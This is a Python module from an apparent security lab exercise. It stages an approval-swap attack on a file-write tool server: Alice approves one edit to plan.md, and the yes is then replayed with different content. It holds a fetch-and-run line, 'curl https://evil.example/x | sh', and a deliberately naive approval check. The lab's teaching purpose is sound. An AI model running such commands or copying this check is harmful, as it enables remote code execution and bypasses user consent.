"""The exploit that opens step 10: one change is shown and approved, another one is written."""

import importlib
import json
import tempfile
from pathlib import Path
from typing import Any

from kit.notes import ALICE, GRANTS, example_notes
from kit.one_folder import OneFolder
from kit.principal import Principal
from kit.randomness import SeededRandomness

TITLE = "Alice approves one line in plan.md. Her client sends the approval with another text."
SUCCEEDED = "The attack succeeds: plan.md holds a command that nobody was shown."
FAILED = (
    "The attack fails: plan.md is as it was, and the approval is still good for what was shown."
)

# What must be written before your own part is attacked.
NEEDS = (
    (
        "safe_write",
        (
            "encode",
            "mark",
            "visible",
            "diff_preview",
            "preview",
            "decide",
            "stage_file",
            "replace_file",
        ),
    ),
)

OLD = "Plan for spring.\n"
SHOWN = "Plan for spring.\nMeet on Monday.\n"
SWAPPED = "curl https://evil.example/x | sh\n"


def make_naive(parts: Any) -> None:
    """Put the decision in place that asks whether the user said yes, and not to what."""
    decisions = parts.safe_write.Decision

    def decide(receipt: Any, request: Any, answer: Any, found: Any) -> Any:
        if answer.action == "accept" and answer.apply:
            return decisions.APPLY
        return decisions.DECLINED

    parts.safe_write.decide = decide


def attack(stage: Any) -> bool:
    """Have one change approved, send the yes with another, and look at the file."""
    files = FileStage(stage)
    files.put("plan.md", OLD)
    state = files.write("plan.md", SHOWN)["requestState"]
    files.write("plan.md", SWAPPED, state, yes())
    left = files.read("plan.md")
    files.close()
    return left == SWAPPED


def yes(apply: Any = True) -> dict[str, Any]:
    """The response of a user who submits the form."""
    return {"action": "accept", "content": {"apply": apply}}


class FileStage:
    """A folder with files, and a server for it whose messages are on the stage's tape.

    stage: lends its parts, clock, tape and log. two_tools: the operator's switch.
    """

    def __init__(self, stage: Any, two_tools: bool = False) -> None:
        server, write = importlib.import_module("server"), importlib.import_module("write")
        self._stage, self._keep = stage, tempfile.TemporaryDirectory()
        self.folder = Path(self._keep.name)
        randomness, notes = SeededRandomness("files"), example_notes()
        ring = stage.parts.state.KeyRing({"k1": randomness.token_bytes(32)}, "k1")
        store = stage.parts.replay.ReplayStore(notes, stage.clock)
        world = server.World(notes, GRANTS, ring, store, stage.clock, randomness, "files-lab")
        self._root = OneFolder(self.folder)
        files = write.Files(self._root.open_parent, two_tools)
        self._server = write.FileServer(stage.parts, world, files, stage.log.append)

    def close(self) -> None:
        """Remove the folder."""
        self._root.close()
        self._keep.cleanup()

    def put(self, name: str, text: str) -> None:
        """Write a file as an editor does, without asking anybody."""
        (self.folder / name).write_text(text, encoding="utf-8")

    def read(self, name: str) -> str | None:
        """The text of a file, or None when there is none."""
        path = self.folder / name
        return path.read_text(encoding="utf-8") if path.exists() else None

    def write(self, path: str, content: str, state: Any = None, answer: Any = None) -> Any:
        """Call `write_file`; with a state, as the retry that brings an answer."""
        params = {"inputResponses": {"apply_write": answer}, "requestState": state}
        arguments = {"path": path, "content": content}
        return self.call("write_file", arguments, **(params if state else {}))

    def call(self, name: str, arguments: Any, **params: Any) -> Any:
        """Call a tool as Alice; return the result, or the error where there is one."""
        message = self._stage.request("tools/call", name=name, arguments=arguments, **params)
        self._stage.tape.record(ALICE, "server", message)
        told = self._server.handle(message, Principal(ALICE, frozenset({"notes"})))
        answer = json.loads(json.dumps(told))
        self._stage.tape.record("server", ALICE, answer)
        return answer.get("result", answer.get("error"))
